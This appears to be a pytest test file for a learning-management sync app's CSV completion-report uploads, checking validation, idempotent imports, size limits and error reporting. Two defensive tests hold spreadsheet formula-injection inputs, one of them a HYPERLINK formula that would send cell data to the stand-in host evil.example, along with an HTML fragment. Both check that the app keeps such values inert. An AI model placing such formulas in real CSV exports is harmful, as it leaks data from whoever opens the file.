"""CSV completion reports uploaded on the sync pages and through the API."""
from __future__ import annotations

import csv
import io

import pytest
from sync_world import completions, counts

from lms_bridge.catalog.models import Module
from lms_bridge.db import db
from lms_bridge.syncing.models import SyncRun, SyncSource, UnmatchedPerson
from lms_bridge.syncing.uploads import template_csv
from sync.csv import parse_completion_report
from sync.csv_shapes import TEMPLATE_COLUMNS, ReportOptions
from tests.conftest import csrf_token, login

HEADER = ",".join(TEMPLATE_COLUMNS) + "\n"
GOOD = HEADER + ("ana@example.org,,,customs-valuation,passed,85%,2026-11-02\n"
                 "BO@example.org,,,hs-classification,completed,,2026-11-03T09:00:00Z\n")
# row 3: a score that is not a number; row 4: an unknown status and a date that is no date
BROKEN = HEADER + ("ana@example.org,,,customs-valuation,passed,85%,2026-11-02\n"
                   "bo@example.org,,,hs-classification,completed,abc,2026-11-03\n"
                   "bo@example.org,,,customs-valuation,done,,yesterday\n")


@pytest.fixture
def admin(app, client, make_user, token_for):
    user_id = make_user("admin", email="admin@example.org")
    make_user("learner", email="ana@example.org")
    make_user("learner", email="bo@example.org")
    with app.app_context():
        db.session.add_all([Module(slug=slug, title=slug)
                            for slug in ("customs-valuation", "hs-classification")])
        db.session.commit()
    assert login(client, "admin@example.org").status_code == 302
    return {"Authorization": f"Bearer {token_for(user_id)}"}


def upload_page(client, text: str, name: str = "Regional report", **fields):
    data = {"csrf_token": csrf_token(client, "/admin/sync/upload"), "name": name,
            "match_by": "email", "report": (io.BytesIO(text.encode()), "report.csv"), **fields}
    return client.post("/admin/sync/upload", data=data, content_type="multipart/form-data")


def upload_api(client, headers, source_id: int, text: str, **fields):
    data = {"report": (io.BytesIO(text.encode()), "report.csv"), **fields}
    return client.post(f"/api/v1/sync/sources/{source_id}/reports", data=data, headers=headers,
                       content_type="multipart/form-data")


def test_an_uploaded_report_is_recorded_and_the_same_upload_again_changes_nothing(
        app, client, admin):
    first = upload_page(client, GOOD)
    assert first.status_code == 302 and "/admin/sync/runs/" in first.headers["Location"]
    run_page = client.get(first.headers["Location"]).get_data(as_text=True)
    assert "2 seen: 2 created" in run_page
    with app.app_context():
        assert completions() == {("ana@example.org", "customs-valuation"): ("passed", 0.85),
                                 ("bo@example.org", "hs-classification"): ("completed", None)}
        before = counts()
    again = upload_page(client, GOOD)
    assert again.status_code == 302
    assert "2 seen: 0 created, 0 updated, 2 unchanged" in client.get(
        again.headers["Location"]).get_data(as_text=True)
    with app.app_context():
        assert counts()[:2] == before[:2] and counts()[2] == before[2] + 1
        assert db.session.query(SyncSource).one().url == ""  # uploads only


def test_a_broken_report_is_refused_whole_naming_rows_and_columns(app, client, admin):
    response = upload_page(client, BROKEN)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Report refused" in page and "nothing was recorded" in page
    for row, column in (("3", "score"), ("4", "status"), ("4", "completed_at")):
        assert f"<td>{row}</td><td>{column}</td>" in page
    with app.app_context():
        assert counts() == (0, 0, 0)
        assert db.session.query(SyncSource).count() == 0  # a new name is created only on success


def test_the_api_upload_runs_and_refuses_with_row_and_column(app, client, admin):
    created = client.post("/api/v1/sync/sources", headers=admin,
                          json={"name": "Reports", "kind": "csv"})
    assert created.status_code == 201, created.get_json()
    source_id = created.get_json()["id"]
    refused = upload_api(client, admin, source_id, BROKEN)
    assert refused.status_code == 422
    error = refused.get_json()["error"]
    assert error["code"] == "report_refused"
    assert {(d["row"], d["column"]) for d in error["details"]} == {
        (3, "score"), (4, "status"), (4, "completed_at")}
    first = upload_api(client, admin, source_id, GOOD)
    assert first.status_code == 201
    assert (first.get_json()["created"], first.get_json()["trigger"]) == (2, "import")
    second = upload_api(client, admin, source_id, GOOD).get_json()
    assert (second["created"], second["updated"], second["unchanged"]) == (0, 0, 2)
    missing = client.post(f"/api/v1/sync/sources/{source_id}/reports", headers=admin, data={},
                          content_type="multipart/form-data")
    assert missing.status_code == 400


def test_a_moodle_export_needs_its_course_and_a_mapping(app, client, admin):
    export = ("ID,Name,Email address,Quiz,Quiz - Completion date,Course complete\n"
              "7,Ana,ana@example.org,Completed (achieved pass grade),\"02/11/26, 10:00\","
              "\"02/11/26, 10:05\"\n")
    refused = upload_page(client, export)
    assert refused.status_code == 422 and "give course_key" in refused.get_data(as_text=True)
    accepted = upload_page(client, export, course_key="HSCLASS",
                           mappings="HSCLASS=hs-classification\nHSCLASS/Quiz=hs-quiz")
    assert accepted.status_code == 302
    with app.app_context():
        assert completions() == {("ana@example.org", "hs-classification"): ("completed", None),
                                 ("ana@example.org", "hs-quiz"): ("passed", None)}


@pytest.mark.parametrize("row, column", [
    ("ana@example.org,,,customs-valuation,=1+1,,2026-11-02", "status"),
    ("ana@example.org,,,customs-valuation,passed,=0.5+0.5,2026-11-02", "score"),
    ("ana@example.org,,,customs-valuation,passed,,=NOW()", "completed_at"),
])
def test_formula_cells_are_never_evaluated(app, client, admin, row, column):
    response = upload_page(client, HEADER + row + "\n")
    assert response.status_code == 422
    assert f"<td>2</td><td>{column}</td>" in response.get_data(as_text=True)


def test_a_formula_looking_identifier_stays_plain_text(app, client, admin):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"<b>click</b>")'
    quoted = '"' + formula.replace('"', '""') + '"'
    report = HEADER + f"{quoted},,,customs-valuation,passed,90%,2026-11-02\n"
    assert upload_page(client, report).status_code == 302
    with app.app_context():
        assert completions() == {}
        assert db.session.query(UnmatchedPerson).one().email == formula
    page = client.get("/admin/sync/unmatched").get_data(as_text=True)
    assert "<b>click</b>" not in page and "&lt;b&gt;click&lt;/b&gt;" in page


def test_the_template_download_is_itself_a_valid_report(client, admin):
    response = client.get("/admin/sync/upload/template.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text == template_csv()
    assert next(csv.reader(io.StringIO(text))) == list(TEMPLATE_COLUMNS)
    assert len(parse_completion_report(text, ReportOptions())) == 3
    assert "template.csv" in client.get("/admin/sync/upload").get_data(as_text=True)


def test_the_upload_route_alone_takes_the_larger_limit(app, client, admin):
    app.config.update(MAX_CONTENT_LENGTH=2_000, MAX_UPLOAD_BYTES=20_000)
    rows = "".join(f"ana@example.org,,,module-{n},completed,,2026-11-02\n" for n in range(100))
    assert 2_000 < len(HEADER + rows) < 20_000
    assert upload_page(client, HEADER + rows).status_code == 302
    assert upload_page(client, HEADER + rows * 5).status_code == 413
    with app.app_context():
        assert db.session.query(SyncRun).count() == 1


def test_a_moodle_source_takes_no_report(app, client, admin):
    created = client.post("/api/v1/sync/sources", headers=admin, json={
        "name": "M", "kind": "xapi", "url": "http://127.0.0.1:9/xAPI/", "secret": "s",
        "allow_private": True})
    assert created.status_code == 201
    response = upload_api(client, admin, created.get_json()["id"], GOOD)
    assert response.status_code == 400 and "not a CSV" in response.get_json()["error"]["message"]


def test_sync_now_on_an_upload_only_source_says_to_upload(app, client, admin):
    app.config["SYNC_NOW_INLINE"] = True
    source_id = client.post("/api/v1/sync/sources", headers=admin,
                            json={"name": "Reports", "kind": "csv"}).get_json()["id"]
    assert client.post(f"/api/v1/sync/sources/{source_id}/runs", headers=admin,
                       json={}).status_code == 202
    run = client.get(f"/api/v1/sync/sources/{source_id}/runs", headers=admin).get_json()[0]
    assert run["status"] == "failed" and "upload a report" in run["message"]


def test_a_csv_source_page_leads_to_its_upload_form(app, client, admin):
    assert upload_page(client, GOOD).status_code == 302
    with app.app_context():
        source_id = db.session.query(SyncSource).one().id
    page = client.get(f"/admin/sync/{source_id}").get_data(as_text=True)
    assert f'href="/admin/sync/upload?source={source_id}"' in page
    form = client.get(f"/admin/sync/upload?source={source_id}").get_data(as_text=True)
    assert 'value="Regional report"' in form and 'list="csv-sources"' in form


def test_a_bad_mapping_refuses_a_new_report_source(app, client, admin):
    response = upload_page(client, GOOD, mappings="X=Not A Slug")
    assert response.status_code == 400 and "is not a module slug" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.query(SyncSource).count() == 0 and counts() == (0, 0, 0)
